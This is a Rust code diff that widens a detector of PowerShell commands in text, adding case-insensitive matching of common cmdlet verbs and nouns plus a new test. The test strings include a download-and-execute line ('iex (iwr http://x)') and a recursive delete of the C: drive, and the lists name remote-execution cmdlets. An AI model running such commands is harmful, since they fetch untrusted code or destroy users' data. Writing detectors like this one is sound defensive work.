@@ -28,13 +28,34 @@ pub fn spoken(text: &str) -> bool {
         .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
         .any(|word| match word.split_once('-') {
             Some((verb, noun)) => {
-                verb.len() > 2
-                    && noun.len() > 2
-                    && verb.starts_with(|c: char| c.is_ascii_uppercase())
-                    && noun.starts_with(|c: char| c.is_ascii_uppercase())
+                is_common(verb, noun)
+                    || verb.len() > 2
+                        && noun.len() > 2
+                        && verb.starts_with(|c: char| c.is_ascii_uppercase())
+                        && noun.starts_with(|c: char| c.is_ascii_uppercase())
             }
             None => matches!(word.to_ascii_lowercase().as_str(), "iex" | "iwr" | "irm" | "gci" | "ri"),
         })
+}
+
+/// The commonest cmdlets, in any case.
+fn is_common(verb: &str, noun: &str) -> bool {
+    const VERBS: [&str; 8] = ["get", "set", "remove", "clear", "invoke", "start", "stop", "new"];
+    const NOUNS: [&str; 11] = [
+        "item",
+        "itemproperty",
+        "childitem",
+        "content",
+        "webrequest",
+        "restmethod",
+        "expression",
+        "command",
+        "process",
+        "service",
+        "disk",
+    ];
+    let among = |words: &[&str], word: &str| words.iter().any(|other| other.eq_ignore_ascii_case(word));
+    among(&VERBS, verb) && among(&NOUNS, noun)
 }
 
 #[cfg(test)]
@@ -43,6 +64,7 @@ mod tests {
 
     #[test]
     fn powershell_is_known_by_its_words() {
+        assert!(spoken("get-childitem c:\\ | remove-item"));
         assert!(spoken("iex (iwr http://x)") && spoken("Get-ChildItem C:\\ | Remove-Item"));
         assert!(!spoken("git log --since=x") && !spoken("echo 'it' (a-b"));
     }
